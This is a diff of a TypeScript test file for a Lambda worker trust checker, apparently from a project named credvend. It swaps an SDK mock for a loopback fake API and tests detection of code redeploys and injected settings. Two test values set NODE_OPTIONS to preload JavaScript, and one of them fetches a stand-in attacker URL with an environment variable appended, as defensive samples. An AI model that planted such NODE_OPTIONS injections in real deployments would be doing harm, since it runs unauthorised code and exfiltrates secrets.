@@ -1,11 +1,11 @@
 // Trust configuration (CREDVEND_TRUSTED_KEYS, signed registrations in CREDVEND_WORKERS) and the
-// Lambda code hash and configuration, with the Lambda API mocked at the SDK boundary.
-import { GetFunctionConfigurationCommand, LambdaClient, type GetFunctionConfigurationCommandOutput } from "@aws-sdk/client-lambda";
-import { mockClient } from "aws-sdk-client-mock";
-import { describe, expect, it } from "vitest";
+// Lambda code hash and configuration, with a loopback stand-in of Lambda's REST API.
+import { afterEach, describe, expect, it } from "vitest";
 import { ConfigError } from "../../plugin-workers/sdk/env.js";
 import { loadFunctionConfig, parseWorkers } from "../../functions/adapters/config/function-config.js";
 import { LambdaCodeHash } from "../../functions/adapters/plugins/lambda-code-hash.js";
+import { LambdaConfigurationApi } from "../../functions/adapters/plugins/lambda-configuration-api.js";
+import { type FakeLambdaApi, type FakeLambdaReply, startFakeLambdaApi } from "../support/fake-lambda-api.js";
 import { publicKeyConfig } from "../../cli/publisher-key-files.js";
 import { VerifiedPluginDirectory } from "../../functions/core/plugin-trust/verified-plugin-directory.js";
 import { parseTrustedKeys } from "../../functions/adapters/config/worker-trust-config.js";
@@ -61,8 +61,7 @@ describe("trust configuration", () => {
 });
 
 /** The demo worker as GetFunctionConfiguration answers for it, deployed as signed. */
-const DEPLOYED: GetFunctionConfigurationCommandOutput = {
-  $metadata: {},
+const DEPLOYED = {
   CodeSha256: sha256Base64(DEMO_CODE),
   Handler: "index.handler",
   Runtime: "nodejs24.x",
@@ -70,11 +69,22 @@ const DEPLOYED: GetFunctionConfigurationCommandOutput = {
 };
 const FUNCTION_ARN = "arn:aws:lambda:eu-west-1:123456789012:function:credvend-demo";
 
+let fake: FakeLambdaApi | undefined;
+afterEach(async () => {
+  await fake?.close();
+  fake = undefined;
+});
+
+/** Lambda's API answering GetFunctionConfiguration with `answer` (the last reply repeats). */
+async function lambdaAnswering(...answers: object[]): Promise<{ lambda: LambdaConfigurationApi; fake: FakeLambdaApi }> {
+  fake = await startFakeLambdaApi(...answers.map((body): FakeLambdaReply => ({ body })));
+  const credentials = async () => ({ accessKeyId: "a", secretAccessKey: "b" });
+  return { lambda: new LambdaConfigurationApi({ region: "eu-west-1", endpoint: fake.url, credentials }), fake };
+}
+
 describe("Lambda CodeSha256 and configuration", () => {
   it("reads code hash, layers, handler, runtime and variable names from one GetFunctionConfiguration, never the values", async () => {
-    const lambda = new LambdaClient({ region: "eu-west-1", credentials: { accessKeyId: "a", secretAccessKey: "b" } });
-    const mock = mockClient(lambda);
-    mock.on(GetFunctionConfigurationCommand).resolves({
+    const { lambda, fake } = await lambdaAnswering({
       ...DEPLOYED,
       Layers: [{ Arn: "arn:aws:lambda:eu-west-1:123456789012:layer:wrapper:3", CodeSize: 10 }],
       Environment: { Variables: { NODE_OPTIONS: "--import=data:text/javascript,evil()", DEMO_TABLE: "t" } },
@@ -90,17 +100,14 @@ describe("Lambda CodeSha256 and configuration", () => {
       },
     });
     expect(JSON.stringify(configuration)).not.toContain("evil");
-    expect(mock.commandCalls(GetFunctionConfigurationCommand)).toHaveLength(1);
+    expect(fake.requests).toHaveLength(1);
   });
 
   it("reports variables Lambda could not show, and a function without handler or runtime (a container image) as empty", async () => {
-    const lambda = new LambdaClient({ region: "eu-west-1", credentials: { accessKeyId: "a", secretAccessKey: "b" } });
-    mockClient(lambda)
-      .on(GetFunctionConfigurationCommand)
-      .resolves({
-        CodeSha256: DEPLOYED.CodeSha256,
-        Environment: { Error: { ErrorCode: "KMSAccessDeniedException", Message: "no" } },
-      });
+    const { lambda } = await lambdaAnswering({
+      CodeSha256: DEPLOYED.CodeSha256,
+      Environment: { Error: { ErrorCode: "KMSAccessDeniedException", Message: "no" } },
+    });
     expect((await new LambdaCodeHash(lambda, FUNCTION_ARN).configuration()).lambda).toEqual({
       handler: "",
       runtime: "",
@@ -111,9 +118,8 @@ describe("Lambda CodeSha256 and configuration", () => {
   });
 
   it("verifies against GetFunctionConfiguration and notices a redeploy", async () => {
-    const lambda = new LambdaClient({ region: "eu-west-1", credentials: { accessKeyId: "a", secretAccessKey: "b" } });
-    const mock = mockClient(lambda);
-    mock.on(GetFunctionConfigurationCommand).resolves(DEPLOYED);
+    const redeployed = { ...DEPLOYED, CodeSha256: sha256Base64(new TextEncoder().encode("new code")) };
+    const { lambda, fake } = await lambdaAnswering(DEPLOYED, redeployed);
     const key = await generateKeyPair();
     const alerts: Notification[] = [];
     let now = Date.now();
@@ -132,20 +138,22 @@ describe("Lambda CodeSha256 and configuration", () => {
       recheckIntervalMs: 1000,
     });
     expect(await directory.forProvider("demo")).toBeDefined();
-    expect(mock.commandCalls(GetFunctionConfigurationCommand)[0]?.args[0].input).toEqual({
-      FunctionName: "arn:aws:lambda:eu-west-1:123456789012:function:credvend-demo",
-    });
+    expect(fake.requests.map((r) => decodeURIComponent(r.rawPath))).toEqual([
+      "/2015-03-31/functions/arn:aws:lambda:eu-west-1:123456789012:function:credvend-demo/configuration",
+    ]);
 
-    mock.on(GetFunctionConfigurationCommand).resolves({ ...DEPLOYED, CodeSha256: sha256Base64(new TextEncoder().encode("new code")) });
     now += 1000;
     await expect(directory.forProvider("demo")).rejects.toMatchObject({ code: "worker_refused" });
     expect(alerts.map((a) => a.details.reason)).toEqual(["code_mismatch"]);
   });
 
   it("NODE_OPTIONS added by UpdateFunctionConfiguration (same code) is refused at the next check", async () => {
-    const lambda = new LambdaClient({ region: "eu-west-1", credentials: { accessKeyId: "a", secretAccessKey: "b" } });
-    const mock = mockClient(lambda);
-    mock.on(GetFunctionConfigurationCommand).resolves(DEPLOYED);
+    const { lambda } = await lambdaAnswering(DEPLOYED, {
+      ...DEPLOYED,
+      Environment: {
+        Variables: { DEMO_TABLE: "t", NODE_OPTIONS: "--import=data:text/javascript,fetch('https://evil.example/'+process.env.X)" },
+      },
+    });
     const key = await generateKeyPair();
     const alerts: Notification[] = [];
     let now = Date.now();
@@ -164,12 +172,6 @@ describe("Lambda CodeSha256 and configuration", () => {
       recheckIntervalMs: 1000,
     });
     expect(await directory.forProvider("demo")).toBeDefined();
-    mock.on(GetFunctionConfigurationCommand).resolves({
-      ...DEPLOYED,
-      Environment: {
-        Variables: { DEMO_TABLE: "t", NODE_OPTIONS: "--import=data:text/javascript,fetch('https://evil.example/'+process.env.X)" },
-      },
-    });
     now += 1000;
     await expect(directory.forProvider("demo")).rejects.toMatchObject({ code: "worker_refused" });
     expect(alerts.map((a) => [a.details.reason, a.details.detail])).toEqual([
